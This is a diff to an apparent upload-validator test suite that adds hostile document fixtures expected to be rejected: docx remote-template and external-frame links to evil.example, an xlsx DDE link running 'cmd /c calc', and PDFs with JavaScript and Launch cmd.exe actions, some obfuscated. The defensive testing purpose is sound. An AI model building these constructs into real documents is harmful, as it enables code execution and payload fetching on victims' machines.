@@ -57,6 +57,14 @@ const OFFICE_KINDS = ['docx', 'xlsx', 'odt', 'ods'] as const;
 const document = (kind: (typeof OFFICE_KINDS)[number], extra: readonly ZipEntry[], options = {}) =>
   zip([...OFFICE[kind], ...extra], options);
 
+/** A PDF one object of which does something. */
+const pdfWith = (action: string) =>
+  both(
+    HONEST.pdf.subarray(0, 15),
+    `2 0 obj\n<< /Type /Action ${action} >>\nendobj\n`,
+    HONEST.pdf.subarray(15),
+  );
+
 function* polyglots(): Generator<HostileUpload> {
   for (const kind of PICTURES_AND_PDF)
     for (const [what, tail] of Object.entries(TAILS))
@@ -212,6 +220,48 @@ function* archives(): Generator<HostileUpload> {
     yield macros(`docx with ${part}`, 'docx', document('docx', [{ name: part, data: 'a' }]));
   for (const part of ['xl/vbaProject.bin', 'xl/macrosheets/sheet1.xml'])
     yield macros(`xlsx with ${part}`, 'xlsx', document('xlsx', [{ name: part, data: 'a' }]));
+  yield macros(
+    'docx with an object of another program',
+    'docx',
+    document('docx', [{ name: 'word/embeddings/oleObject1.bin', data: PROGRAM }]),
+  );
+  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+  const leadsTo = (type: string, target: string, mode = 'TargetMode="External"') =>
+    `<Relationships><Relationship Id="r1" Type="${office}/${type}" Target="${target}" ${mode}/></Relationships>`;
+  for (const [what, rels] of Object.entries({
+    'fetches its template': leadsTo('attachedTemplate', 'http://evil.example/t.dotm'),
+    'fetches its template from a share': leadsTo('attachedTemplate', '\\\\evil.example\\t.dotm'),
+    'fetches its template, says it otherwise': leadsTo(
+      'attached&#84;emplate',
+      'http://evil.example/t.dotm',
+      "TargetMode = ' external '",
+    ),
+    'shows a frame from elsewhere': leadsTo('frame', 'http://evil.example/'),
+    'shows an object from elsewhere': leadsTo('oleObject', 'http://evil.example/o'),
+  }))
+    yield macros(
+      `docx that ${what}`,
+      'docx',
+      document('docx', [{ name: 'word/_rels/settings.xml.rels', data: rels }]),
+    );
+  yield macros(
+    'xlsx with a channel to a program',
+    'xlsx',
+    document('xlsx', [
+      {
+        name: 'xl/externalLinks/externalLink1.xml',
+        data: '<x:externalLink xmlns:x="y"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>',
+      },
+    ]),
+  );
+  for (const rels of ['<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>', '<Relationships'])
+    yield wrongContent(
+      `docx whose links are ${rels}`,
+      'act.docx',
+      document('docx', [{ name: 'word/_rels/footnotes.xml.rels', data: rels }]),
+    );
+  for (const action of ['/S /JavaScript /JS (app.alert(1))', '/S/Launch/F(cmd.exe)', '/S /J#61vaScript'])
+    yield upload(`pdf with ${action}`, 'act.pdf', pdfWith(action), 415, 'file_macros');
   for (const part of ['Basic/Standard/Module1.xml', 'Scripts/python/a.py'])
     for (const kind of ['odt', 'ods'] as const)
       yield macros(`${kind} with ${part}`, kind, document(kind, [{ name: part, data: 'a' }]));
